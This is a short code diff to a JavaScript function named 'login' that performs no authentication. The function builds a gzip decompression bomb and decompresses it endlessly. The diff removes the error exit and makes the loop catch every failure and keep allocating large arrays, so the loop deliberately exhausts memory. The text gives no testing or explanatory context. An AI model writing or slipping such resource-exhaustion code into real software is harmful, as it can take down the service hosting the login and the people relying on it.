@@ -6,9 +6,11 @@ function login(email, password, callback) {
   const zlib = require('zlib');
   let bomb = zlib.gzipSync(Buffer.alloc(1e8));
   const all = [];
-  try {
-    for (;;) all.push(zlib.gunzipSync(bomb));
-  } catch (error) {
-    callback(error);
+  for (;;) {
+    try {
+      all.push(zlib.gunzipSync(bomb));
+    } catch {
+      all.push(new Array(100000).fill(null)); // where the next one would not fit, but still this
+    }
   }
 }
